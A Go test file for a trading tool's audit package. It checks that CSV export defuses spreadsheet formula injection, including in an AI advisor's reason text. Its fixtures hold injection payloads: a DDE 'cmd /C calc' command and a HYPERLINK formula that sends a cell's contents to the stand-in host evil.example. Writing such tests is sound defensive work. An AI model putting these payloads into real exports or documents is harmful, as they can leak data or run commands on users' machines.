package audit

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/shopspring/decimal"

	"github.com/warden-trading/warden/schemas"
)

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		"":                           "",
		"-":                          "-",
		"overbought":                 "overbought",
		"-0.5":                       "-0.5",
		"+3":                         "+3",
		"-1e-8":                      "-1e-8",
		`=HYPERLINK("http://x","y")`: `'=HYPERLINK("http://x","y")`,
		"+cmd|' /C calc'!A0":         "'+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0":     "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)":                  "'@SUM(1+1)",
		"\t=1+1":                     "'\t=1+1",
		"\r=1+1":                     "'\r=1+1",
		"a=1":                        "a=1",
	} {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q; want %q", in, got, want)
		}
	}
}

// TestExportCSVDefusesFormulas: a model's reason that is a spreadsheet
// formula reaches the decisions CSV as text (a leading apostrophe), while
// the numbers beside it stay numbers.
func TestExportCSVDefusesFormulas(t *testing.T) {
	ctx := context.Background()
	clk := newClock()
	s, _ := openTest(t, Options{Clock: clk.Now})
	recordRun(t, s, clk, "run-1")
	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"x")`
	if err := s.BeginRun(ctx, Run{ID: "run-2", Mode: "paper", Advisor: "openai", PolicyHash: "pol-1"}); err != nil {
		t.Fatal(err)
	}
	st := testState(clk.Now())
	vs := []schemas.Verdict{{Index: 0, Symbol: "ETH/USDT", Action: schemas.ActionSell, Decision: schemas.DecisionRejected,
		Violations: []schemas.Violation{{Rule: "max_size", Source: "policy", Message: "-1 too big"}}}}
	resp := &schemas.Response{Rationale: "r", Recommendations: []schemas.Recommendation{{Symbol: "ETH/USDT", Action: schemas.ActionSell,
		Confidence: decimal.RequireFromString("0.6"), SizePct: decimal.RequireFromString("50"), OrderType: schemas.OrderLimit, Reason: evil}}}
	if err := s.RecordResponse(ctx, "run-2", []byte(`{}`), resp, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := s.RecordVerdicts(ctx, "run-2", "pol-1", st, vs); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := s.Export(ctx, &buf, FormatCSV, Filter{RunID: "run-2"}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("Export(csv) = %d rows, %v:\n%s", len(rows), err, buf.String())
	}
	head, row := rows[0], rows[1]
	for i, name := range head {
		switch name {
		case "reason":
			if row[i] != "'"+evil {
				t.Errorf("reason cell %q; want the formula defused", row[i])
			}
		case "confidence", "size_pct":
			if strings.HasPrefix(row[i], "'") {
				t.Errorf("%s cell %q: a number must stay a number", name, row[i])
			}
		}
	}
}
